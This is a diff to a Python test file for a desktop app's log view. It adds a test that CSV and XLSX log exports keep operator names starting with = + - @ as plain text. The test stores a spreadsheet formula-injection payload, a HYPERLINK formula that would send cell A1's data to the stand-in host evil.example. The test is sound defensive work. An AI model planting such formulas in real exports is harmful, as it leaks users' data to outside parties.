@@ -25,7 +25,7 @@ from anahp_desktop.ui.models.log_model import COL_STARTED, COL_STATUS, LogTableM
 from anahp_desktop.ui.resources import resources_dir
 from anahp_desktop.ui.views.log_filters import TEXT_DEBOUNCE_MS, LogFilterBar, local_day_start_utc
 from anahp_desktop.ui.views.log_view import LogView
-from tests.helpers.source_db import SourceDb
+from tests.helpers.source_db import BASE_TIME, SourceDb
 from tests.ui.conftest import SIGNAL_TIMEOUT_MS, wait_idle
 
 
@@ -266,3 +266,39 @@ def test_a_filter_date_before_1970_is_converted_without_the_c_library() -> None:
     bar.since.setDate(QDate(1969, 6, 1))
     bar.since_check.setChecked(True)
     assert bar.current().since is not None and bar.current().since.year == 1969
+
+
+@pytest.mark.parametrize("kind", [CSV, XLSX])
+def test_an_export_never_holds_a_live_formula(tmp_path: Path, kind: str) -> None:
+    """An operator named like a formula (or any text starting with = + - @) stays text."""
+
+    from sqlalchemy import create_engine
+
+    from anahp_desktop.state import migrate
+    from anahp_desktop.state.records import OpenBatch
+    from anahp_desktop.state.store import StateStore
+    from anahp_desktop.ui.log_export import export_log
+
+    engine = create_engine(f"sqlite:///{tmp_path / 'state.sqlite'}")
+    migrate.upgrade(engine)
+    store = StateStore(engine)
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Detalhes")'
+    batch = OpenBatch("L1", "2077485", "pending", None, 1, 0, BASE_TIME)
+    store.begin_attempt(batch, "run-1", "manual", formula, mark_sending=False)
+    target = tmp_path / f"log.{kind}"
+    assert export_log(store, queries.LogFilter(), True, target, kind) == 1
+    engine.dispose()
+    if kind == CSV:
+        with target.open(encoding="utf-8-sig") as handle:
+            row = next(csv.DictReader(handle))
+        assert row["Operator"] == "'" + formula
+        return
+    with zipfile.ZipFile(target) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+        shared = (
+            book.read("xl/sharedStrings.xml").decode()
+            if "xl/sharedStrings.xml" in book.namelist()
+            else ""
+        )
+    assert "<f>" not in sheet and "HYPERLINK" not in sheet.split("<sheetData>")[0]
+    assert "=HYPERLINK(" in (shared + sheet).replace("&quot;", '"').replace("&amp;", "&")
